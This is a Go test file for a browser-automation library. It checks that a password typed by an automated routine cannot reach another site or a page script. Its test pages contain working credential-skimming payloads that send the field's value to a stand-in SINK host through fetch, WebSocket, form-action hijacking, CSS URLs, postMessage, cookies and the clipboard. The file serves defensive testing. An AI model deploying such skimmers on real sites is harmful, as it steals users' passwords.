package browser

import (
	"fmt"
	"strings"
	"testing"

	"rote/routine"
)

// stealAt is a page that gives the focus to a frame of the sink at an event of the field.
func stealAt(event string) string {
	return `<input id=p type=password><iframe id=f src=SINK/frame></iframe><script>
		p.addEventListener('` + event + `', () => f.contentWindow.focus())</script>`
}

// stealInShadow is a page that moves the focus to a field in a shadow root at an event.
func stealInShadow(event string) string {
	return `<input id=p type=password><x-y></x-y><script>
		const root = document.querySelector('x-y').attachShadow({mode: 'open'})
		root.innerHTML = '<input>'
		root.firstChild.oninput = e => { const x = new XMLHttpRequest(); x.open('POST', 'SINK/got', false); x.send(e.target.value) }
		p.addEventListener('` + event + `', () => root.firstChild.focus())</script>`
}

// inFrame is a page that has the field in a frame that a script makes of src.
func inFrame(script string) string {
	return `<iframe id=f></iframe><script>const field = '<input id=p type=password>'
		` + script + `</script>`
}

// readBy types the secret and reads it back with a script.
func readBy(script string) func(*secretAttempt) error {
	return func(a *secretAttempt) error {
		if err := a.typeIt(); err != nil {
			return err
		}
		e, err := a.p.Evaluate(a.ctx, routine.Script{Text: `(async () => { const p = document.querySelector('#p'); ` + script + ` })()`, Limit: testTime / 4})
		a.gave = append(a.gave, string(e.JSON), strings.Join(e.Console, "\n"))
		if err != nil {
			a.gave = append(a.gave, err.Error())
		}
		return err
	}
}

// readWith types the secret and reads it back with an operation.
func readWith(read func(*secretAttempt) (string, error)) func(*secretAttempt) error {
	return func(a *secretAttempt) error {
		if err := a.typeIt(); err != nil {
			return err
		}
		text, err := read(a)
		a.gave = append(a.gave, text)
		return err
	}
}

// lookup reads a value of the page as a placeholder does.
func lookup(from routine.Source, name string) func(*secretAttempt) (string, error) {
	return func(a *secretAttempt) (string, error) {
		text, _, err := a.p.Lookup(a.ctx, from, name)
		return text, err
	}
}

// inAnyField is what a routine does with a secret that may be typed into any field.
func inAnyField(do func(*secretAttempt) error) func(*secretAttempt) error {
	return func(a *secretAttempt) error {
		if a.typing.Release != nil {
			a.typing.Release.Rules.Field = routine.FieldAny
		}
		return do(a)
	}
}

const (
	editable     = `<div id=p contenteditable></div>`
	secretField  = `<input id=p type=password>`
	copyingField = `<input id=p type=password oninput="dataset.v = sessionStorage.v = localStorage.v = window.v = value; m.content = value"><meta id=m name=m>`
)

// TestSecretGoesNowhereElse tries how a secret of a shop could reach another site, or those who
// may use it without knowing it.
func TestSecretGoesNowhereElse(t *testing.T) {
	t.Parallel()
	denied, exposed, lost := routine.CodeSecretDenied, routine.CodeSecretExposed, routine.CodeElementNotActionable
	tryWays(t, []secretWay{
		{name: "focus stolen by a frame at keydown", page: stealAt("keydown"), leaks: true},
		{name: "focus stolen by a frame at input", page: stealAt("input"), leaks: true},
		{name: "focus stolen by a frame at beforeinput", page: stealAt("beforeinput"), leaks: true},
		{name: "focus stolen by a frame at focus", page: stealAt("focus"), code: lost, words: "gives the focus away"},
		{name: "focus stolen by a frame at select", page: stealAt("select"),
			do: func(a *secretAttempt) error { a.typing.Clear = true; return a.typeIt() }},
		{name: "focus stolen by a field in a shadow root at keydown", page: stealInShadow("keydown"), leaks: true},
		{name: "focus stolen by a popup at keydown", page: secretField + `<script>p.onkeydown = p.oninput = () => open('SINK/frame')</script>`},

		{name: "form sent to another host", page: `<form action=SINK/got method=post><input id=p name=p type=password><button id=b>b</button></form>`,
			leaks: true, code: denied, words: "is in a form that is sent to http://127.0.0.1:"},
		{name: "form that a button sends to another host",
			page: `<form action=SHOP/x><input id=p name=p type=password><button id=b formaction=SINK/got>b</button></form>`, leaks: true,
			code: denied, words: "a button that sends it to"},
		{name: "form that an image sends to another host", page: `<form><input id=p name=p type=password>
			<input type=image id=b formaction=SINK/got style="width:20px;height:20px" src="data:,"></form>`,
			leaks: true, code: denied, words: "a button that sends it to"},
		{name: "form sent relative to a base of another host",
			page:  `<base href=SINK/><form action=got><input id=p name=p type=password><button id=b>b</button></form>`,
			leaks: true, code: denied, words: "base URL"},
		{name: "form around which the field is not", page: `<form id=x action=SINK/got></form><input id=p form=x name=p type=password><button id=b form=x>b</button>`,
			leaks: true, code: denied, words: "is sent to"},
		{name: "form with fields that have the names of its properties", page: `<form action=SINK/got><input name=action><input name=elements>
			<input name=getAttribute><input id=p name=p type=password><button id=b>b</button></form>`, leaks: true, code: denied, words: "is sent to"},
		{name: "form sent to a user name that looks like the host",
			page: `<form action="http://SHOPHOST@SINKHOST/got"><input id=p name=p type=password><button id=b>b</button></form>`, code: denied, words: "is sent to"},
		{name: "form whose action changes when the field gets the focus", page: `<form action=SHOP/x><input id=p name=p type=password
			onfocus="this.form.setAttribute('action', 'SINK/got')"><button id=b>b</button></form>`, leaks: true, code: denied, words: "is sent to"},
		{name: "form sent by mail", page: `<form action="mailto:a@SINKHOST"><input id=p name=p type=password></form>`, code: denied, words: "mailto:"},

		{name: "skimmer at input", page: `<input id=p type=password oninput="fetch('SINK/got', {method: 'POST', mode: 'no-cors', body: value})">`, leaks: true},
		{name: "form whose action changes when it is sent", page: `<form action=SHOP/x method=post onsubmit="this.action = 'SINK/got'">
			<input id=p name=p type=password><button id=b>b</button></form>`, leaks: true, code: denied, words: "the request has secret shop"},
		{name: "Referer of a page that a form with GET leads to", page: `<form action=SHOP/next><input id=p name=p type=password><button id=b>b</button></form>`,
			site: map[string]string{"next": `<script>fetch('SINK/got', {mode: 'no-cors', referrerPolicy: 'unsafe-url'})</script>`}, leaks: true},
		{name: "name of the window, on a page of another port", page: `<input id=p type=password oninput="window.name = value"><a id=b href=SINK/name>b</a>`,
			leaks: true},
		{name: "module", page: `<input id=p type=password oninput="import('SINK/got?' + encodeURIComponent(value))">`, leaks: true},
		{name: "background of a style", page: `<input id=p type=password oninput="document.body.style.background =
			'url(SINK/got?' + encodeURIComponent(value) + ')'">`, leaks: true},
		{name: "message to a frame of another port", page: `<iframe src=SINK/relay></iframe>
			<input id=p type=password oninput="frames[0].postMessage(value, '*')">`, leaks: true},
		{name: "WebSocket, for a secret that confines the run", page: `<input id=p type=password oninput="
			new WebSocket('ws://SINKHOST/got?' + encodeURIComponent(value))">`, leaks: true, do: func(a *secretAttempt) error {
			if a.typing.Release != nil {
				a.typing.Release.Rules.Confine = true
			}
			return a.typeIt()
		}},
		{name: "cookie, to another port", page: `<input id=p type=password oninput="document.cookie = 'v=' + value"><a id=b href=SINK/got>b</a>`,
			leaks: true, code: denied, words: "could not be opened: the request has secret shop"},

		{name: "page of another port", do: func(a *secretAttempt) error {
			if _, err := a.p.Navigate(a.ctx, a.sink+"/login"); err != nil {
				return err
			}
			err := a.typeIt()
			return errorsOrClick(a, err)
		}, leaks: true, code: denied, words: "is on a page of http://127.0.0.1:"},
		{name: "page of another port to which the shop leads", page: `<script>location = 'SINK/login'</script>`, do: func(a *secretAttempt) error {
			return errorsOrClick(a, a.typeIt())
		}, leaks: true, code: denied, words: "is on a page of"},
		{name: "frame of another port", page: `<iframe src=SINK/login></iframe>`,
			do: func(a *secretAttempt) error { return errorsOrClick(a, a.typeIt()) }, leaks: true, code: denied, words: "is in a frame of"},
		{name: "sandboxed frame of the shop", page: `<iframe sandbox="allow-scripts allow-forms" src=in></iframe>`, site: map[string]string{"in": secretField},
			code: denied, words: "(a sandbox)"},
		{name: "frame of about:blank", page: inFrame(`f.contentDocument.body.innerHTML = field`), code: denied, words: "about:blank"},
		{name: "frame of srcdoc", page: inFrame(`f.srcdoc = field`), code: denied, words: "about:srcdoc"},
		{name: "frame of data:", page: inFrame(`f.src = 'data:text/html,' + field`), code: denied, words: "is in a frame of"},
		{name: "frame of blob:", page: inFrame(`f.src = URL.createObjectURL(new Blob([field], {type: 'text/html'}))`), code: denied, words: "blob:"},
		{name: "field that is shown", page: `<input id=p>`, code: denied, words: "is no password field"},
		{name: "field for a secret whose rule is not known", page: `<input id=p>`, code: denied, words: "is no password field",
			do: func(a *secretAttempt) error { a.typing.Release.Rules.Field = ""; return a.typeIt() }},
		{name: "any field for a secret that is not typed", page: secretField, code: denied, words: "is not typed into any field",
			do: func(a *secretAttempt) error { a.typing.Release.Rules.Field = routine.FieldNone; return a.typeIt() }},
		{name: "public comment", page: `<div id=p contenteditable></div>`, code: denied, words: "is no password field"},

		{name: "script that reverses it", page: secretField, do: readBy(`return [...p.value].reverse().join('')`),
			leaks: true, code: exposed, words: `"input#p" holds secret shop`},
		{name: "script that encodes it", page: secretField, do: readBy(`return btoa(p.value)`), leaks: true, code: exposed},
		{name: "script that lists its characters", page: secretField, do: readBy(`return [...p.value].map(c => c.charCodeAt())`), leaks: true, code: exposed},
		{name: "script that throws it", page: secretField, do: readBy(`throw new Error(p.value)`), leaks: true, code: exposed},
		{name: "script that logs it", page: secretField, do: readBy(`console.log(p.value)`), leaks: true, code: exposed},
		{name: "script that reads a form's data", page: `<form><input id=p name=p type=password></form>`,
			do: readBy(`return [...new FormData(p.form)]`), leaks: true, code: exposed},
		{name: "script that copies the field", page: secretField, do: readBy(`return structuredClone({v: p.cloneNode().value || p.value})`),
			leaks: true, code: exposed},
		{name: "script that draws it", page: secretField, do: readBy(`const c = document.createElement('canvas').getContext('2d')
			c.fillText(p.value, 0, 9); return c.canvas.toDataURL()`), code: exposed},
		{name: "script that selects an editable element", page: editable,
			do: inAnyField(readBy(`getSelection().selectAllChildren(p); return String(getSelection())`)), leaks: true, code: exposed},
		{name: "script that serializes an editable element", page: editable,
			do: inAnyField(readBy(`return new XMLSerializer().serializeToString(p)`)), leaks: true, code: exposed},
		{name: "script that passes it through collections", page: secretField,
			do: readBy(`return Object.fromEntries(new Map([['a', [...new Set([p.value])]]]))`), leaks: true, code: exposed},
		{name: "script that shows the field's text", page: secretField, do: readBy(`p.type = 'text'; p.select(); return p.value.slice(p.selectionStart)`),
			leaks: true, code: exposed},
		{name: "script that sends the form elsewhere afterwards",
			page: `<form action=SHOP/x method=post><input id=p name=p type=password><button id=b>b</button></form>`,
			do: func(a *secretAttempt) error {
				return errorsOrClick(a, readBy(fmt.Sprintf(`p.form.action = %q`, a.sink+"/got"))(a))
			}, leaks: true, code: exposed, words: "holds secret shop"},
		{name: "script reads a field in a shadow root", page: `<x-y></x-y><script>
			document.querySelector('x-y').attachShadow({mode: 'open'}).innerHTML = '<input id=p type=password>'</script>`,
			do: readBy(`return document.querySelector('x-y').shadowRoot.querySelector('#p').value`), leaks: true, code: exposed},
		{name: "script in the shop's page reads a frame", page: `<iframe src=in></iframe>`, site: map[string]string{"in": secretField},
			do: readBy(`return document.querySelector('iframe').contentDocument.querySelector('#p').value`), leaks: true, code: exposed},
		{name: "script reads half that the page has kept", page: copyingField,
			do: readBy(`return document.querySelector('#p').dataset.v.slice(0, 12)`), leaks: true, code: exposed},
		{name: "script reads a copy in an attribute", page: secretField + `<i></i><script>p.addEventListener('input', () => {
			document.querySelector('i').title = p.value; if (p.value.length > 21) p.value = '' })</script>`,
			do: readBy(`return document.querySelector('i').title`), leaks: true, code: exposed, words: "the page holds secret shop"},
		{name: "script reads a copy with an element for each character", page: `<input id=p type=password oninput="o.innerHTML =
			[...value].map(c => '<i>' + c + '</i>').join(''); if (value.length > 21) value = ''"><b id=o></b>`,
			do: readBy(`return document.querySelector('#o').textContent`), leaks: true, code: exposed, words: "the page holds secret shop"},
		{name: "script reads the hash", page: `<input id=p type=password oninput="location.hash = value; if (value.length > 21) value = ''">`,
			do: readBy(`return location.hash.slice(1)`), leaks: true, code: exposed, words: "the page holds secret shop"},
		{name: "script reads the URL of a form that was sent with GET", page: `<form><input id=p name=p type=password><button id=b>b</button></form>`,
			do: func(a *secretAttempt) error {
				if err := a.typeIt(); err != nil {
					return err
				}
				if err := a.click("#b"); err != nil {
					return err
				}
				e, err := a.p.Evaluate(a.ctx, routine.Script{Text: `(() => new URL(location).searchParams.get('p'))()`, Limit: testTime / 4})
				a.gave = append(a.gave, string(e.JSON))
				return err
			}, leaks: true, code: exposed, words: "the page holds secret shop"},
		{name: "HTML", page: copyingField, do: readWith(func(a *secretAttempt) (string, error) {
			text, _, err := a.p.OuterHTML(a.ctx, "")
			return text, err
		}), leaks: true, code: exposed},
		{name: "entry of sessionStorage", page: copyingField, do: readWith(lookup(routine.FromSessionStorage, "v")), leaks: true, code: exposed},
		{name: "entry of localStorage", page: copyingField, do: readWith(lookup(routine.FromLocalStorage, "v")), leaks: true, code: exposed},
		{name: "property of window", page: copyingField, do: readWith(lookup(routine.FromWindow, "v")), leaks: true, code: exposed},
		{name: "meta tag", page: copyingField, do: readWith(lookup(routine.FromMeta, "m")), leaks: true, code: exposed},
		{name: "cookie", page: `<input id=p type=password oninput="document.cookie = 'v=' + value">`, do: readWith(func(a *secretAttempt) (string, error) {
			cookies, err := a.p.Cookies(a.ctx)
			return routine.JSONText(cookies), err
		}), leaks: true, code: exposed},
		{name: "cookie that is sent", page: `<input id=p type=password oninput="document.cookie = 'v=' + value">`,
			do: readWith(func(a *secretAttempt) (string, error) {
				cookies, err := a.p.SentCookies(a.ctx)
				return routine.JSONText(cookies), err
			}), leaks: true, code: exposed},
		{name: "request", page: copyingField, do: readWith(func(a *secretAttempt) (string, error) {
			r, err := a.p.Fetch(a.ctx, routine.Fetch{URL: "x", Method: "GET"}, 1000)
			return string(r.Body), err
		}), code: exposed, words: "no request may be made"},
		{name: "names of entries of the storage", page: `<input id=p type=password oninput="sessionStorage[value] = 1">`,
			do: readWith(func(a *secretAttempt) (string, error) {
				keys, err := a.p.StorageKeys(a.ctx)
				return strings.Join(keys, "\n"), err
			}), leaks: true, code: exposed},
		{name: "values of the page, in a lesson", page: copyingField, do: readWith(func(a *secretAttempt) (string, error) {
			values, err := a.p.PageValues(a.ctx)
			return routine.JSONText(values), err
		}), leaks: true, code: exposed},
		{name: "copied and pasted into another page", page: secretField + `<script>p.addEventListener('input', () => p.type = 'text')</script>`,
			do: func(a *secretAttempt) error {
				if err := a.typeIt(); err != nil {
					return err
				}
				copied := a.press("Control+A", "Control+C")
				if _, err := a.p.Navigate(a.ctx, a.sink+"/login"); err != nil {
					return err
				}
				if err := a.click("#p"); err != nil {
					return err
				}
				if err := a.press("Control+V"); err != nil {
					return err
				}
				return errorsOrClick(a, copied)
			}, leaks: true, code: exposed, words: "nothing may be copied"},
		{name: "copied by the page and pasted into another", page: secretField + `<button id=b onclick="navigator.clipboard.writeText(p.value)">copy</button>`,
			do: func(a *secretAttempt) error {
				if err := a.typeIt(); err != nil {
					return err
				}
				if err := a.click("#b"); err != nil {
					return err
				}
				if _, err := a.p.Navigate(a.ctx, a.sink+"/login"); err != nil {
					return err
				}
				if err := a.click("#p"); err != nil {
					return err
				}
				return errorsOrClick(a, a.press("Control+V"))
			}, leaks: true, code: exposed, words: "the clipboard holds secret shop"},
	})
}

// errorsOrClick clicks #b, which sends the form, and returns err.
func errorsOrClick(a *secretAttempt, err error) error {
	if clicked := a.click("#b"); clicked != nil {
		a.t.Error(clicked)
	}
	return err
}
